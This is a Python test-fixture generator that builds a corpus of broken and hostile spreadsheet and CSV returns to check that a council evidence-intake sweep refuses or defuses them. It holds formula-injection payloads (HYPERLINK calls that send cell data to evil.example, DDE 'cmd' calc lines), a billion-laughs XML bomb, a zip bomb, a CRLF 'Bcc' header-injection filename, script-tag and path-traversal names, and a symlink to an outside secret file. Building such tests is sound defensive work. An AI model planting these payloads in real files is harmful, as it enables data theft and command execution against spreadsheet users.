"""Build the hostile-input corpus: broken, malicious and merely messy returns for the demo council.

``python tests/data/hostile/make_hostile.py [INBOX]`` writes it by hand; the tests call :func:`build`
into a temporary inbox so the files always match the current request workbook. Every case has a row
in ``expected.csv`` beside this script (keyed by ``case``): the outcome, row counts, who gets the
reply and a piece of the message. File names are chosen per case because several cases *are* names
(newlines, backslashes, a Windows path, bytes that are not UTF-8, 230 characters).

Cases whose ``where`` is not ``inbox`` are paths the sweep is handed that lie outside the inbox
(``../../x.xlsx``, an absolute path): the sweep must refuse them without reading or touching them.
"""

from __future__ import annotations

import csv
import io
import os
import random
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

from openpyxl import Workbook

from reaccreditation.demo.returns import fill, good_rows
from reaccreditation.organisation.config import Organisation
from reaccreditation.requests.workbook import RequestWorkbook
from reaccreditation.workbook import layout
from reaccreditation.workbook.sheets import set_text

HERE = Path(__file__).parent
FIRST_DAY = date(2027, 3, 15)
RUN_DAY = date(2027, 1, 20)
SECRET = "hostile-corpus: this file lies outside the data root and must never be read\n"
HEADERS = ["Element", "Evidence title", "Evidence type", "Link or file name", "Date of evidence", "Owner", "Self-rating"]
KEYS = ["element_id", "evidence_title", "evidence_type", "link", "evidence_date", "owner", "self_rating"]


@dataclass
class Case:
    """One hostile input: its inbox name (str, or bytes for a name that is not UTF-8) and content."""

    case: str
    name: str | bytes
    content: bytes | None = None
    symlink_to: Path | None = None
    where: str = "inbox"  # inbox | outside-relative | outside-absolute


# -- building blocks ---------------------------------------------------------------------------------


def rows(org: Organisation, dept_id: str, seed: int = 3) -> list[dict]:
    return good_rows(org, org.department(dept_id), random.Random(seed), partial_share=0.0)


def request(org: Organisation, dept_id: str) -> bytes:
    return RequestWorkbook(org, org.department(dept_id)).to_bytes()


def good(
    org: Organisation,
    dept_id: str,
    change: Callable[[list[dict]], list[dict]] | None = None,
    mutate: Callable[[object], None] | None = None,
) -> bytes:
    """The department's request workbook filled with good rows (optionally changed first)."""
    r = rows(org, dept_id)
    return fill(request(org, dept_id), change(r) if change else r, mutate)


def with_bad_row(r: list[dict]) -> list[dict]:
    """Make the last row fail validation, so the file is answered with its annotated workbook."""
    r[-1] = r[-1] | {"self_rating": "Brilliant"}
    return r


def rezip(
    data: bytes,
    change: Callable[[str, bytes], bytes | None] = lambda n, c: c,
    extra: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", compression) as dst:
        for info in src.infolist():
            content = change(info.filename, src.read(info.filename))
            if content is not None:
                dst.writestr(info.filename, content)
        for name, content in (extra or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def plain(headers: list[str], table: list[list], sheet: str = "Evidence") -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    for c, h in enumerate(headers, 1):
        set_text(ws.cell(row=1, column=c), h)
    for r, values in enumerate(table, 2):
        for c, v in enumerate(values, 1):
            if v is not None:
                ws.cell(row=r, column=c).value = v
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def csv_bytes(
    org: Organisation, dept_id: str, encoding: str = "utf-8", header_only: bool = False, title_suffix: str = ""
) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(HEADERS)
    if not header_only:
        for r in rows(org, dept_id, 5):
            w.writerow(
                [
                    r["element_id"],
                    r["evidence_title"] + title_suffix,
                    r["evidence_type"],
                    r["link"],
                    r["evidence_date"].strftime("%d/%m/%Y"),
                    r["owner"],
                    r["self_rating"],
                ]
            )
    text = buf.getvalue()
    return (b"\xef\xbb\xbf" + text.encode("utf-8")) if encoding == "utf-8-sig" else text.encode(encoding)


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal, valid OLE compound file (CFB v3) holding ``streams`` (each padded to >= 4096 bytes).

    What Excel writes for a password-protected workbook: a CFB container with ``EncryptionInfo`` and
    ``EncryptedPackage`` streams instead of a zip package.
    """
    free, end, fatsect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    bodies = [s.ljust(max(4096, -(-len(s) // 512) * 512), b"\x00") for s in streams.values()]
    fat = [fatsect, end]
    starts = []
    for body in bodies:
        n = len(body) // 512
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(n - 1)] + [end]
    assert len(fat) <= 128
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = (name + "\x00").encode("utf-16-le") if name else b""
        return (
            raw.ljust(64, b"\x00")
            + struct.pack("<HBB3I", len(raw), kind, 1, nostream, right, child)
            + b"\x00" * 16
            + b"\x00" * 4
            + b"\x00" * 16
            + struct.pack("<IQ", start, size)
        )

    names = list(streams)
    directory = entry("Root Entry", 5, 1, nostream, end, 0)
    for i, (name, body) in enumerate(zip(names, streams.values(), strict=True)):
        directory += entry(name, 2, nostream, i + 2 if i + 1 < len(names) else nostream, starts[i], len(body))
    directory = directory.ljust(512, b"\x00")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + directory + b"".join(bodies)


def _sheet_xml(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    return rezip(data, lambda n, c: change(c) if n == "xl/worksheets/sheet1.xml" else c)


def _live_formulas(wb) -> None:  # type: ignore[no-untyped-def]
    """Real formula cells (data_type 'f'), as Excel would store them, in the filled Evidence sheet."""
    ws = wb[layout.EVIDENCE_SHEET]
    header = {c.value: c.column for c in ws[1]}
    ws.cell(row=2, column=header["Notes"]).value = '=HYPERLINK("https://evil.example/steal?c="&A1,"details")'
    ws.cell(row=3, column=header["Notes"]).value = "=1+1"
    ws.cell(row=4, column=header["Evidence owner"]).value = "=cmd|' /C calc'!A0"


# -- the corpus --------------------------------------------------------------------------------------


def cases(org: Organisation, outside: Path) -> list[Case]:
    small = plain(HEADERS, [["4.1.1", "x", "Document", "x.pdf", "01/06/2026", "A", "Compliance"]])
    good_housing = good(org, "housing")
    dup = good(org, "revenues-benefits")
    long_title = "Customer journey mapping workshop " * 40  # about 1,360 characters
    strict = rezip(
        small,
        lambda n, c: (
            c.replace(
                b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"
            )
            if n == "xl/workbook.xml"
            else c
        ),
    )
    corrupt = bytearray(good(org, "people-od"))
    with zipfile.ZipFile(io.BytesIO(bytes(corrupt))) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    middle = info.header_offset + 30 + len(info.filename) + info.compress_size // 2
    corrupt[middle : middle + 64] = bytes(64)
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
        + b']><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&lol9;" '
        b'sheetId="1"/></sheets></workbook>'
    )
    hidden = good(org, "childrens-services", mutate=lambda wb: _hidden_sheet(wb))
    merged = good(org, "communications", mutate=lambda wb: wb[layout.EVIDENCE_SHEET].merge_cells("F2:F4"))
    external = rezip(
        good(org, "complaints-legal"),
        extra={
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                b'Target="file:///C:/secret/budget.xlsx" TargetMode="External"/></Relationships>'
            ),
        },
    )
    title = rows(org, "adult-social-care")[0]["evidence_title"].encode()
    nul_xlsx = rezip(
        good(org, "adult-social-care"),
        lambda n, c: c.replace(title, title[:8] + b"\x00\x01" + title[8:], 1) if n == "xl/sharedStrings.xml" else c,
    )
    nul_csv = csv_bytes(org, "waste-environment").replace(b"\r\n", b"\x00\r\n", 2)
    return [
        Case("corrupt_zip", "people-od-evidence-2027.xlsx", bytes(corrupt)),
        Case("truncated", "housing-evidence-truncated.xlsx", good_housing[: len(good_housing) * 2 // 3]),
        Case("xls_renamed_xlsx", "childrens-services-old.xlsx", cfb({"Workbook": b"\x09\x08" + b"\x00" * 600})),
        Case(
            "xlsm_macro",
            "waste-environment-evidence.xlsm",
            rezip(
                good(org, "waste-environment"),
                lambda n, c: (
                    c.replace(
                        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                    )
                    if n == "[Content_Types].xml"
                    else c
                ),
                extra={"xl/vbaProject.bin": cfb({"VBA": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nEnd Sub'})},
            ),
        ),
        Case(
            "password_protected",
            "complaints-legal-locked.xlsx",
            cfb(
                {
                    "EncryptionInfo": b'\x04\x00\x04\x00\x40\x00\x00\x00<?xml version="1.0"?><encryption/>',
                    "EncryptedPackage": struct.pack("<Q", 9000) + random.Random(1).randbytes(4000),
                }
            ),
        ),
        Case("zip_bomb", "digital-evidence-bomb.xlsx", rezip(small, extra={"xl/media/image1.xml": b"\x00" * 50_000_000})),
        Case(
            "million_rows",
            "libraries-culture-million.xlsx",
            _sheet_xml(
                small,
                lambda c: c.replace(b'<dimension ref="A1:G2"', b'<dimension ref="A1:G1048576"').replace(
                    b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>end</t></is></c></row></sheetData>'
                ),
            ),
        ),
        Case(
            "sixteen_k_columns",
            "revenues-benefits-wide.xlsx",
            _sheet_xml(
                small,
                lambda c: c.replace(b'<dimension ref="A1:G2"', b'<dimension ref="A1:XFD2"').replace(
                    b"</row></sheetData>", b'<c r="WZZ2" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'
                ),
            ),
        ),
        Case("live_formulas", "customer-services-formulas.xlsx", good(org, "customer-services", with_bad_row, _live_formulas)),
        Case(
            "inject_hyperlink",
            "policy-insight-hyperlink.xlsx",
            good(
                org,
                "policy-insight",
                lambda r: with_bad_row(
                    [r[0] | {"evidence_title": '=HYPERLINK("https://evil.example/x?d="&A1,"Open the evidence")'}, *r[1:]]
                ),
            ),
        ),
        Case(
            "inject_dde",
            "people-od-dde.csv",
            _csv_rows(org, "people-od", {"evidence_title": "=cmd|' /C calc'!A0", "owner": "=cmd|' /C calc'!A0"}, bad_last=True),
        ),
        Case(
            "inject_at",
            "digital-at-sum.xlsx",
            good(org, "digital", lambda r: with_bad_row([r[0] | {"evidence_title": "@SUM(1+1)*cmd|' /C calc'!A0"}, *r[1:]])),
        ),
        Case(
            "inject_plus",
            "housing-plus.xlsx",
            good(org, "housing", lambda r: with_bad_row([r[0] | {"evidence_title": "+1", "owner": "+44 1632 960000"}, *r[1:]])),
        ),
        Case(
            "inject_minus",
            "libraries-culture-minus.xlsx",
            good(org, "libraries-culture", lambda r: with_bad_row([r[0] | {"evidence_title": "-1", "notes": "-2+3"}, *r[1:]])),
        ),
        Case("external_links", "complaints-legal-evidence-links.xlsx", external),
        Case("hidden_sheet", "childrens-services-evidence-hidden.xlsx", hidden),
        Case("merged_cells", "communications-evidence-merged.xlsx", merged),
        Case("csv_cp1252", "libraries-culture-cp1252.csv", csv_bytes(org, "libraries-culture", "cp1252", title_suffix=" – café")),
        Case("csv_bom", "waste-environment-bom.csv", csv_bytes(org, "waste-environment", "utf-8-sig")),
        Case("csv_utf16", "housing-utf16.csv", csv_bytes(org, "housing", "utf-16")),
        Case(
            "long_cells",
            "customer-services-long.xlsx",
            good(
                org, "customer-services", lambda r: [r[0] | {"evidence_title": long_title}, r[1] | {"notes": "n" * 5000}, *r[2:]]
            ),
        ),
        Case(
            "emoji_rtl",
            "policy-insight-emoji-\u202egnp.xlsx",
            good(
                org,
                "policy-insight",
                lambda r: [
                    r[0] | {"evidence_title": "Customer panel 🎉👍🏽 feedback", "owner": "Laura Chen 🙂"},
                    r[1] | {"evidence_title": "استطلاع رضا العملاء (survey in Arabic) שאלון"},
                    *r[2:],
                ],
            ),
        ),
        Case("name_windows_path", "C:\\Users\\ben\\..\\..\\Windows\\housing-evidence.xlsx", good_housing),
        Case("name_newline", "digital-evidence\r\nBcc: attacker@evil.example.xlsx", good(org, "digital")),
        Case("name_very_long", "communications-" + "evidence-" * 26 + ".xlsx", good(org, "communications")),
        Case("name_not_utf8", b"adult-social-care-\xff\xfe-evidence.xlsx", good(org, "adult-social-care")),
        Case("name_html", "<script>alert(1)<script>-parks.xlsx", good(org, "housing")),
        Case("outside_relative", "../../x.xlsx", good(org, "housing"), where="outside-relative"),
        Case("outside_absolute", str(outside / "absolute-housing.xlsx"), good(org, "housing"), where="outside-absolute"),
        Case("symlink_outside", "housing-evidence-link.xlsx", symlink_to=outside / "secret.txt"),
        Case(
            "wrong_department",
            "finance-return.xlsx",
            fill(request(org, "housing"), rows(org, "housing"), lambda wb: _meta(wb, department_id="parks-gardens")),
        ),
        Case(
            "wrong_year",
            "customer-services-2026.xlsx",
            fill(
                request(org, "customer-services"),
                rows(org, "customer-services"),
                lambda wb: _meta(wb, assessment_year="2026", request_reference="REQ-2026-customer-services"),
            ),
        ),
        Case("empty_file", "digital-evidence-empty.xlsx", b""),
        Case("duplicate_first", "revenues-benefits-evidence.xlsx", dup),
        Case("duplicate_again", "revenues-benefits-evidence (1).xlsx", dup),
        Case("strict_ooxml", "adult-social-care-strict.xlsx", strict),
        Case(
            "zero_sheets",
            "waste-environment-nosheets.xlsx",
            rezip(
                small,
                lambda n, c: (
                    (b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>')
                    if n == "xl/workbook.xml"
                    else c
                ),
            ),
        ),
        Case("headers_only_sheet", "people-od-headers.xlsx", plain(HEADERS, [])),
        Case("csv_header_only", "policy-insight-header.csv", csv_bytes(org, "policy-insight", header_only=True)),
        Case("nul_csv", "waste-environment-nul.csv", nul_csv),
        Case("nul_xlsx", "adult-social-care-nul.xlsx", nul_xlsx),
        Case(
            "billion_laughs", "libraries-culture-laughs.xlsx", rezip(small, lambda n, c: laughs if n == "xl/workbook.xml" else c)
        ),
        Case("zip_not_workbook", "communications-archive.xlsx", _zip({"readme.txt": b"not a workbook"})),
        Case("pdf", "housing-evidence.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
    ]


def _csv_rows(org: Organisation, dept_id: str, first: dict, bad_last: bool = False) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(HEADERS)
    r = rows(org, dept_id, 5)
    r[0] = r[0] | first
    if bad_last:
        r = with_bad_row(r)
    for x in r:
        w.writerow(
            [
                x["element_id"],
                x["evidence_title"],
                x["evidence_type"],
                x["link"],
                x["evidence_date"].strftime("%d/%m/%Y"),
                x["owner"],
                x["self_rating"],
            ]
        )
    return buf.getvalue().encode("utf-8")


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return out.getvalue()


def _hidden_sheet(wb) -> None:  # type: ignore[no-untyped-def]
    ws = wb.create_sheet("Old evidence")
    for c, h in enumerate(HEADERS, 1):
        set_text(ws.cell(row=1, column=c), h)
    set_text(ws.cell(row=2, column=1), "9.9.9")
    ws.sheet_state = "hidden"


def _meta(wb, **values: str) -> None:  # type: ignore[no-untyped-def]
    ws = wb[layout.META_SHEET]
    for row in ws.iter_rows(min_row=1, max_col=2):
        if row[0].value in values:
            set_text(row[1], values[row[0].value])


def build(org: Organisation, inbox: Path, outside: Path) -> dict[str, Path]:
    """Write the inbox cases into ``inbox`` (in order: oldest first) and the rest under ``outside``."""
    inbox.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.txt").write_text(SECRET)
    written: dict[str, Path] = {}
    stamp = 1_790_000_000
    for i, case in enumerate(cases(org, outside)):
        if case.where == "outside-relative":
            path = inbox / str(case.name)  # inbox/../../x.xlsx: really two folders above the inbox
            path.resolve().parent.mkdir(parents=True, exist_ok=True)
            path.resolve().write_bytes(case.content or b"")
        elif case.where == "outside-absolute":
            path = Path(str(case.name))
            path.write_bytes(case.content or b"")
        else:
            raw = case.name if isinstance(case.name, bytes) else case.name.encode()
            path = Path(os.fsdecode(os.path.join(os.fsencode(inbox), raw)))
            if case.symlink_to is not None:
                os.symlink(case.symlink_to, path)
                written[case.case] = path
                continue
            path.write_bytes(case.content or b"")
        os.utime(path, (stamp + i, stamp + i))
        written[case.case] = path
    return written


def expected() -> list[dict[str, str]]:
    with (HERE / "expected.csv").open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def main() -> None:
    import tempfile

    from reaccreditation.demo import generate
    from reaccreditation.organisation.config import load_organisation

    inbox = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(tempfile.mkdtemp()) / "inbox"
    paths = generate(Path(tempfile.mkdtemp()) / "demo", FIRST_DAY)
    org = load_organisation(paths["config"], today=RUN_DAY)
    written = build(org, inbox, inbox.parent / "outside")
    print(f"{len(written)} hostile cases: inbox {inbox}")


if __name__ == "__main__":
    main()
